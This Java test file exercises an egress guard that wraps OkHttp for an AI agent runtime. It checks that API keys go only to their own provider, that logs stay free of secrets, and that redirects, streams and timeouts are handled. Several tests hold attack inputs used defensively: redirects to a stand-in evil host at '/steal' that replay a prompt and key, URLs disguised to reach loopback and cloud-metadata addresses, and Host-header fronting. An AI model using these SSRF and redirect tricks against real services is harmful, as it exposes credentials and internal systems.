package dev.secureruntime.core.okhttp;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import dev.secureruntime.egress.EgressDecision.Reason;
import dev.secureruntime.egress.EgressDeniedException;
import dev.secureruntime.error.ErrorCode;
import java.io.IOException;
import java.net.SocketTimeoutException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.TimeUnit;
import okhttp3.Call;
import okhttp3.Callback;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.Response;
import okhttp3.mockwebserver.MockResponse;
import okhttp3.mockwebserver.RecordedRequest;
import okhttp3.mockwebserver.SocketPolicy;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class GuardedOkHttpTest {

    @TempDir
    Path folder;

    private GuardedWorld world;
    private GuardedCallFactory calls;

    @BeforeEach
    void start() throws IOException {
        world = new GuardedWorld(folder);
        calls = GuardedOkHttp.callFactory(world.agent);
    }

    @AfterEach
    void stop() throws IOException {
        world.close();
    }

    // ---- what is allowed goes through, equipped

    @Test
    void call_toAllowedHost_carriesTheRealKeyAndNoOther() throws Exception {
        world.provider.answer(LoopbackServer.json("{}"));

        try (Response response = calls.newCall(world.post(GuardedWorld.OPENAI)).execute()) {
            assertThat(response.code()).isEqualTo(200);
            assertThat(response.body().string()).isEqualTo("{}");
        }

        RecordedRequest seen = world.take();
        assertThat(seen.getHeader("Authorization")).isEqualTo("Bearer " + GuardedWorld.OPENAI_KEY);
        assertThat(seen.getHeader("x-goog-api-key")).isNull();
        assertThat(seen.getBody().readUtf8()).isEqualTo(GuardedWorld.PROMPT);
    }

    @Test
    void call_toAllowedHostOfAnotherKey_getsItsOwnKeyOnly() throws Exception {
        world.provider.answer(LoopbackServer.json("{}"), LoopbackServer.json("{}"));

        calls.newCall(world.post(GuardedWorld.ANTHROPIC)).execute().close();
        calls.newCall(world.post(GuardedWorld.PARTNER)).execute().close();

        RecordedRequest anthropic = world.take();
        assertThat(anthropic.getHeader("x-api-key")).isEqualTo(GuardedWorld.ANTHROPIC_KEY);
        assertThat(anthropic.getHeader("Authorization")).isNull();
        RecordedRequest partner = world.take();
        assertThat(LoopbackServer.clear(partner.getHeaders()))
                .doesNotContain(GuardedWorld.OPENAI_KEY)
                .doesNotContain(GuardedWorld.ANTHROPIC_KEY);
    }

    @Test
    void response_givenToTheCaller_holdsNoRequestWithTheKey() throws Exception {
        world.provider.answer(
                LoopbackServer.redirect(307, "/elsewhere"),
                LoopbackServer.json("{}").setResponseCode(200));
        OkHttpClient client = GuardedOkHttp.client(world.agent);
        StringBuilder seenByLibrary = new StringBuilder();
        OkHttpClient withLibraryInterceptor = client.newBuilder().build();

        try (Response response =
                withLibraryInterceptor.newCall(world.post(GuardedWorld.OPENAI)).execute()) {
            for (Response r = response; r != null; r = r.priorResponse()) {
                seenByLibrary.append(LoopbackServer.clear(r.request().headers()));
                if (r.networkResponse() != null) {
                    seenByLibrary.append(
                            LoopbackServer.clear(r.networkResponse().request().headers()));
                }
            }
            assertThat(response.request().header("Authorization")).isEqualTo("Bearer placeholder");
        }

        assertThat(seenByLibrary).doesNotContain(GuardedWorld.OPENAI_KEY);
        assertThat(world.take().getHeader("Authorization")).contains(GuardedWorld.OPENAI_KEY);
    }

    @Test
    void log_afterCalls_holdsNeitherKeyNorPrompt() throws Exception {
        world.provider.answer(LoopbackServer.json("{\"answer\":\"the model's secret words\"}"));
        calls.newCall(world.post(GuardedWorld.OPENAI)).execute().body().string();
        assertThatThrownBy(() -> calls.newCall(world.post(GuardedWorld.EVIL)).execute())
                .hasMessageNotContaining("secret plans")
                .hasMessageNotContaining("placeholder");
        world.runtime.close();

        assertThat(world.everythingLogged())
                .doesNotContain(GuardedWorld.OPENAI_KEY)
                .doesNotContain("secret plans")
                .doesNotContain("secret words")
                .doesNotContain("placeholder")
                .contains("http.request.body");
    }

    // ---- what is not allowed doesn't

    @Test
    void call_toOtherHost_isDeniedWithoutLookupOrConnection() throws Exception {
        assertThatThrownBy(() -> calls.newCall(world.post(GuardedWorld.EVIL)).execute())
                .isInstanceOfSatisfying(EgressDeniedException.class, denial -> {
                    assertThat(denial.code()).isEqualTo(ErrorCode.EGRESS_DENIED);
                    assertThat(denial.decision().reason()).isEqualTo(Reason.HOST_NOT_ALLOWED);
                });

        world.assertNothingReachedEvil();
        JsonNode record = world.onlyCall();
        assertThat(record.at("/attributes/secure_runtime.verdict").asText()).isEqualTo("deny");
        assertThat(record.at("/attributes/server.address").asText()).isEqualTo(GuardedWorld.EVIL);
    }

    @Test
    void call_toOtherHostWithoutTheGuard_arrives() throws Exception {
        world.evil.answer(LoopbackServer.json("{}"));

        world.bare().newCall(world.post(GuardedWorld.EVIL)).execute().close();

        assertThat(world.evil.server.takeRequest(5, TimeUnit.SECONDS).getBody().readUtf8())
                .isEqualTo(GuardedWorld.PROMPT);
    }

    @ParameterizedTest
    @ValueSource(ints = {301, 302, 303, 307, 308})
    void redirect_toOtherHost_isDeniedAndNothingSent(int status) throws Exception {
        world.provider.answer(LoopbackServer.redirect(status, world.url(GuardedWorld.EVIL, "/steal")));

        assertThatThrownBy(() -> calls.newCall(world.post(GuardedWorld.OPENAI)).execute())
                .isInstanceOfSatisfying(EgressDeniedException.class, denial -> {
                    assertThat(denial.code()).isEqualTo(ErrorCode.EGRESS_DENIED);
                    assertThat(denial.request().host()).isEqualTo(GuardedWorld.EVIL);
                    assertThat(denial.decision().detail()).contains("redirect from " + GuardedWorld.OPENAI);
                });

        world.assertNothingReachedEvil();
        JsonNode record = world.onlyCall();
        assertThat(record.at("/attributes/secure_runtime.redirected_from/0").asText())
                .isEqualTo(GuardedWorld.OPENAI);
        assertThat(record.at("/attributes/secure_runtime.attempts").asInt()).isEqualTo(1);
    }

    @Test
    void redirect307_toOtherHostWithoutTheGuard_replaysPromptAndKey() throws Exception {
        world.provider.answer(LoopbackServer.redirect(307, world.url(GuardedWorld.EVIL, "/steal")));
        world.evil.answer(LoopbackServer.json("{}"));
        Request request = world.post(GuardedWorld.OPENAI)
                .newBuilder()
                .header("x-api-key", "sk-leaks")
                .build();

        world.bare().newCall(request).execute().close();

        RecordedRequest stolen = world.evil.server.takeRequest(5, TimeUnit.SECONDS);
        assertThat(stolen.getHeader("x-api-key")).isEqualTo("sk-leaks");
        assertThat(stolen.getBody().readUtf8()).isEqualTo(GuardedWorld.PROMPT);
    }

    @Test
    void redirect307_toOtherAllowedHost_isRefusedBecauseOfTheBody() throws Exception {
        world.provider.answer(LoopbackServer.redirect(307, world.url(GuardedWorld.PARTNER, "/")));

        assertThatThrownBy(() -> calls.newCall(world.post(GuardedWorld.OPENAI)).execute())
                .isInstanceOfSatisfying(EgressDeniedException.class, denial -> assertThat(denial.code())
                        .isEqualTo(ErrorCode.EGRESS_REDIRECT_REFUSED));

        assertThat(world.provider.server.getRequestCount()).isEqualTo(1);
    }

    @Test
    void redirect303_toOtherAllowedHost_dropsBodyAndCredentials() throws Exception {
        world.provider.answer(
                LoopbackServer.redirect(303, world.url(GuardedWorld.PARTNER, "/result")), LoopbackServer.json("{}"));
        Request request = world.post(GuardedWorld.OPENAI)
                .newBuilder()
                .header("x-api-key", "sk-own")
                .header("X-Custom-Token", "t")
                .header("Accept", "application/json")
                .build();

        calls.newCall(request).execute().close();

        world.take();
        RecordedRequest second = world.take();
        assertThat(second.getMethod()).isEqualTo("GET");
        assertThat(second.getBodySize()).isZero();
        assertThat(second.getHeaders().names())
                .doesNotContain("Authorization", "x-api-key", "X-Custom-Token", "x-goog-api-key");
        assertThat(second.getHeader("Accept")).isEqualTo("application/json");
    }

    @Test
    void redirect307_withinTheOrigin_replaysTheBodyWithTheKey() throws Exception {
        world.provider.answer(LoopbackServer.redirect(307, "/v2/chat/completions"), LoopbackServer.json("{}"));

        calls.newCall(world.post(GuardedWorld.OPENAI)).execute().body().string();

        world.take();
        RecordedRequest second = world.take();
        assertThat(second.getPath()).isEqualTo("/v2/chat/completions");
        assertThat(second.getBody().readUtf8()).isEqualTo(GuardedWorld.PROMPT);
        assertThat(second.getHeader("Authorization")).contains(GuardedWorld.OPENAI_KEY);
        assertThat(world.onlyCall().at("/attributes/secure_runtime.complete").asBoolean())
                .isTrue();
    }

    @Test
    void redirectLoop_ends() {
        for (int i = 0; i < 12; i++) {
            world.provider.answer(LoopbackServer.redirect(307, "/again"));
        }

        assertThatThrownBy(() -> calls.newCall(world.post(GuardedWorld.OPENAI)).execute())
                .hasMessageContaining("more than 10 redirects");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "http://api.openai.com/",
                "https://127.0.0.1/",
                "https://2130706433/",
                "https://[::1]/",
                "https://[::ffff:169.254.169.254]/",
                "https://user:pw@api.openai.com/",
                "https://api.openai.com.evil.example/",
                "https://api.openai.com./"
            })
    void call_toDisguisedOrUnlistedTarget_isDeniedWithoutLookup(String url) {
        Request request = new Request.Builder().url(url).build();

        assertThatThrownBy(() -> calls.newCall(request).execute()).isInstanceOf(EgressDeniedException.class);

        assertThat(world.resolver.lookups()).isEmpty();
        assertThat(world.provider.connections()).isZero();
    }

    @Test
    void call_whoseHostHeaderNamesAnotherHost_isDenied() {
        Request fronting = world.post(GuardedWorld.OPENAI)
                .newBuilder()
                .header("Host", GuardedWorld.EVIL)
                .build();

        assertThatThrownBy(() -> calls.newCall(fronting).execute())
                .isInstanceOfSatisfying(EgressDeniedException.class, denial -> assertThat(denial.code())
                        .isEqualTo(ErrorCode.EGRESS_MALFORMED_TARGET));
        assertThat(world.provider.connections()).isZero();
    }

    @Test
    void call_whoseHostHeaderNamesAnotherHostWithoutTheGuard_arrives() throws Exception {
        world.provider.answer(LoopbackServer.json("{}"));

        world.bare()
                .newCall(world.post(GuardedWorld.OPENAI)
                        .newBuilder()
                        .header("Host", GuardedWorld.EVIL)
                        .build())
                .execute()
                .close();

        assertThat(world.take().getHeader(":authority")).isEqualTo(GuardedWorld.EVIL);
    }

    @Test
    void allowedName_thatResolvesToAnAddressNobodyOpened_isDenied() throws Exception {
        world.resolver.set(GuardedWorld.PARTNER, "10.0.0.7");
        world.resolver.set(GuardedWorld.OPENAI, "93.184.216.34", "169.254.169.254");

        assertThatThrownBy(() -> calls.newCall(world.post(GuardedWorld.PARTNER)).execute())
                .isInstanceOfSatisfying(EgressDeniedException.class, denial -> assertThat(denial.code())
                        .isEqualTo(ErrorCode.EGRESS_ADDRESS_DENIED));
        assertThatThrownBy(() -> calls.newCall(world.post(GuardedWorld.OPENAI)).execute())
                .isInstanceOfSatisfying(EgressDeniedException.class, denial -> assertThat(denial.code())
                        .isEqualTo(ErrorCode.EGRESS_ADDRESS_DENIED));
    }

    // ---- streams, cancellation, time-outs

    @Test
    void stream_isHandedOnAsItComes_andRecordedOnce() throws Exception {
        world.provider.answer(new MockResponse()
                .setHeader("Content-Type", "text/event-stream")
                .setBody("data: {\"id\":\"c1\",\"model\":\"gpt\"}\n\n" + "data: x\n\n".repeat(2_000))
                .throttleBody(64, 200, TimeUnit.MILLISECONDS));

        Response response = calls.newCall(world.post(GuardedWorld.OPENAI)).execute();
        String first = response.body().source().readUtf8Line();
        assertThat(first).startsWith("data: {");
        response.close(); // long before the stream's end: closing must not wait for it

        JsonNode record = world.onlyCall();
        assertThat(record.at("/attributes/secure_runtime.complete").asBoolean()).isFalse();
        assertThat(record.at("/attributes/gen_ai.response.model").asText()).isEqualTo("gpt");
        assertThat(record.at("/commitments/http.response.body/bytes").asLong()).isLessThan(16_384);
    }

    @Test
    void cancelledCall_cancelsTheOneUnderneath() throws Exception {
        world.provider.answer(new MockResponse().setSocketPolicy(SocketPolicy.NO_RESPONSE));
        OkHttpClient client = GuardedOkHttp.client(world.agent);
        CompletableFuture<Response> future = new CompletableFuture<>();
        Call call = client.newCall(world.post(GuardedWorld.OPENAI));
        call.enqueue(new Callback() {
            @Override
            public void onFailure(Call c, IOException e) {
                future.completeExceptionally(e);
            }

            @Override
            public void onResponse(Call c, Response r) {
                future.complete(r);
            }
        });
        world.take(); // the request is with the server, which won't answer

        call.cancel();

        assertThatThrownBy(() -> future.get(10, TimeUnit.SECONDS)).isInstanceOf(ExecutionException.class);
    }

    @Test
    void callTimeout_ofTheCallersClient_isKept() {
        world.provider.answer(new MockResponse().setSocketPolicy(SocketPolicy.NO_RESPONSE));
        OkHttpClient client = GuardedOkHttp.client(world.agent)
                .newBuilder()
                .callTimeout(Duration.ofMillis(300))
                .build();

        assertThatThrownBy(() -> client.newCall(world.post(GuardedWorld.OPENAI)).execute())
                .hasMessageContaining("timeout");
    }

    @Test
    void readTimeout_ofTheCallersClient_isKept() {
        world.provider.answer(new MockResponse().setSocketPolicy(SocketPolicy.NO_RESPONSE));
        OkHttpClient client = GuardedOkHttp.client(world.agent)
                .newBuilder()
                .readTimeout(Duration.ofMillis(300))
                .build();

        assertThatThrownBy(() -> client.newCall(world.post(GuardedWorld.OPENAI)).execute())
                .isInstanceOf(SocketTimeoutException.class);
    }
}
